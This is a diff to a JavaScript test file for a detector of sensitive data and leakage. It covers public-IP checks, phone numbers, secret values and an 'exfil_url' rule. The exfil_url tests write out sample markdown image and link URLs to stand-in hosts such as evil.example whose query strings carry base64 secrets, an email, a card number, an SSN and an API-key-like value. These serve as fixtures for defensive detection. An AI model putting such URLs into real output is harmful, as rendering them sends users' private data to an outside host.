@@ -132,19 +132,32 @@ t.test('es_nif checks the mod-23 letter of DNI and NIE numbers', async (t) => {
   rejects(t, 'es_nif', ['12345678A', 'X1234567A', '00000000T', 'W1234567L', '1234567Z', 'X12345678L'])
 })
 
-t.test('ipv4 wants four octets standing alone', async (t) => {
-  accepts(t, 'ipv4', ['192.168.1.10', '10.0.0.1', '8.8.4.4', '255.255.255.255', '0.0.0.0'])
+t.test('ipv4 wants four octets standing alone, of a public host', async (t) => {
+  accepts(t, 'ipv4', ['93.184.216.34', '8.8.4.4', '81.2.69.160', '52.95.110.1'])
   rejects(t, 'ipv4', ['192.168.1.1.1', '192.168.1.256', '192.168.001.1', '1.2.3', '01.2.3.4'])
   rejects(t, 'ipv4', ['1.1.108'], '.')
   rejects(t, 'ipv4', ['2.168.1.1'], '9')
+  // The policy: addresses of no one pass.
+  rejects(t, 'ipv4', ['192.168.1.10', '10.0.0.1', '172.16.5.4', '172.31.255.254', '127.0.0.1', '0.0.0.0', '169.254.10.20',
+    '100.64.1.2', '192.0.2.7', '198.51.100.23', '203.0.113.7', '198.18.0.1', '224.0.0.251', '255.255.255.0',
+    '255.255.255.255', '81.2.69.0', '81.2.69.255', '81.2.69.0/24', '10.0.0.0/8'])
+  accepts(t, 'ipv4', ['172.32.0.1', '100.128.0.1', '192.169.1.1'], ' ')
+  // A section or a version is named, not an address.
+  for (const lead of ['rfc3986#section-', 'see Section ', 'zlib@', 'version ', '§ ']) {
+    t.equal(v('ipv4')('13.3.3.7', { before: lead.slice(-1), lead }), false, `after ${JSON.stringify(lead)}`)
+  }
+  t.equal(v('ipv4')('13.3.3.7', { before: ' ', lead: 'connect to ' }), true, 'an address after ordinary words')
 })
 
-t.test('ipv6 accepts real addresses and refuses times, MACs, slices and loopback', async (t) => {
-  accepts(t, 'ipv6', ['2001:0db8:85a3:0000:0000:8a2e:0370:7334', '2a00:1450:4001:81c::200e', 'fe80::1', '2001:db8::',
-    '::ffff:192.0.2.128', '2606:4700:4700::1111', '1:2:3:4:5:6:7:8'])
+t.test('ipv6 accepts public addresses and refuses times, MACs, slices, loopback and non-public ranges', async (t) => {
+  accepts(t, 'ipv6', ['2a00:1450:4001:81c::200e', '2606:4700:4700::1111', '1:2:3:4:5:6:7:8', '::ffff:81.2.69.160',
+    '2a00:1450:4001:081c:0000:0000:0000:200e'])
   rejects(t, 'ipv6', ['12:30:45', '00:1a:2b:3c:4d:5e', '10::20', '1::2', '::1', '::', 'dead::beef', 'a:b:c:d:e:f:a:b',
     '1:2:3:4:5:6:7:8:9', '1::2::3', '::ffff:192.0.2.300', 'fe80::12345'])
-  rejects(t, 'ipv6', ['fe80::1'], ':')
+  rejects(t, 'ipv6', ['2001:0db8:85a3:0000:0000:8a2e:0370:7334', '2001:db8::', 'fe80::1', 'fe80::00ed:1', 'febf::1:2',
+    'fd12:3456:789a::1', 'fc00::abc', 'ff02::1:ff00:1234', '::ffff:192.0.2.128', '::ffff:127.0.0.1', '::ffff:c0a8:101',
+    '::ffff:a00:1', '2001::/32', '2a00:1450::/29'])
+  rejects(t, 'ipv6', ['2a00:1450:4001:81c::200e'], ':')
 })
 
 t.test('phone_e164 wants 8 to 15 digits and one kind of separator besides spaces', async (t) => {
@@ -188,14 +201,40 @@ t.test('basic_auth wants base64 of user:password', async (t) => {
     Buffer.from('user:password').toString('base64'), Buffer.from([0xff, 0x00, 0x3a, 0x01]).toString('base64')])
 })
 
-t.test('exfil_url blocks any real query on images and references, payloads only on links', async (t) => {
-  accepts(t, 'exfil_url', ['![x](https://evil.example/p.png?d=abc)', '<img src="https://e.example/t.gif?u=jane">',
-    '[s]: https://evil.example/s.gif?c=1', '[a](https://a.example/x?q=My%20SSN%20is%20536-22-1234)',
-    '[a](https://a.example/x?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&j=10&k=11&l=12&m=13)'])
+t.test('exfil_url blocks a payload in a query, on images, references and links alike, and passes badge and CI queries', async (t) => {
+  accepts(t, 'exfil_url', ['![x](https://evil.example/p.png?d=U2VjcmV0IHRva2VuOiBhYmMxMjM=)',
+    '<img src="https://e.example/t.gif?u=jane.doe%40acme-corp.com">',
+    '[s]: https://evil.example/s.gif?c=4111111111111111', '[a](https://a.example/x?q=My%20SSN%20is%20536-22-1234)',
+    '![x](https://e.example/i?q=user+lives+in+Berlin)', '![x](https://e.example/i?t=' + 'a'.repeat(48) + ')',
+    '![x](https://e.example/i?k=sk-live-4eC39HqLyjWDarjtT1zdp7dc)',
+    '![x](https://img.example/i?url=https://evil.example/c?d=U2VjcmV0IHRva2VuOiBhYmMxMjM=)',
+    '![x](https://e.example/i?c2VjcmV0IGtleSBpcyBodW50ZXIy)'])
   rejects(t, 'exfil_url', ['![x](https://cdn.example/p.png)', '![x](https://cdn.example/p.png?utm_source=chatgpt.com)',
     '[v](https://www.youtube.com/watch?v=dQw4w9WgXcQ)', '[s](https://github.com/x/y?tab=readme-ov-file)',
+    '![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)',
+    '![npm](https://img.shields.io/npm/v/x.svg?style=flat-square&logo=npm&maxAge=2592000)',
+    '![a](https://avatars.githubusercontent.com/u/24939410?v=4&s=100)',
+    '[b]: https://nodei.co/npm/x.png?downloads=true&stars=true',
+    '[c]: https://img.shields.io/endpoint?url=https://github-actions-badge-u3jn4tfpocch.runkit.sh/ljharb/async-function',
+    '[d](https://github.com/o/r/actions?query=workflow%3A%22Continuous+Integration%22)',
     '[bad escape](https://a.example/?q=%E0%A4%A)', 'no url here'])
-  t.equal(v('exfil_url')('[x](https://a.example/?q=%E0%A4%AAAAAAAAAAAAAAAAAAAAAAA)', afterSpace), true, 'a malformed escape is measured raw')
+  t.equal(v('exfil_url')('[x](https://a.example/?q=%E0%A4%AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA)', afterSpace), true, 'a malformed escape is measured raw')
+})
+
+t.test('phone_national refuses byte dumps: a run of pairs, or pairs after a pair', async (t) => {
+  rejects(t, 'phone_national', ['01 02 07 03 04 05 06', '02 00 00 00 00 05 00 00'])
+  t.equal(v('phone_national')('01 23 45 67 89', { before: ' ', lead: '00 28 13 de ' }), false, 'the tail of a dump')
+  t.equal(v('phone_national')('01 23 45 67 89', { before: ' ', lead: 'Tél. ' }), true, 'a French number')
+})
+
+t.test('secret_value refuses member accesses, calls and stock example values', async (t) => {
+  rejects(t, 'secret_value', ['reader.readStringNT', 'config.db.password', 'this.options.secret(', 'secret123', 'password-for-30001', 'token_abc'])
+  accepts(t, 'secret_value', ['Tr0ub4dor&3xyz', 'NrNmk6!JS4L6QeEI', 'Xk29fQ7mLp2z'])
+})
+
+t.test('url_password refuses a mask of any length', async (t) => {
+  rejects(t, 'url_password', ['***', '****', '•••'])
+  accepts(t, 'url_password', ['hunter2x'])
 })
 
 t.test('tag_smuggling lets emoji flag tag sequences through, and their tails', async (t) => {
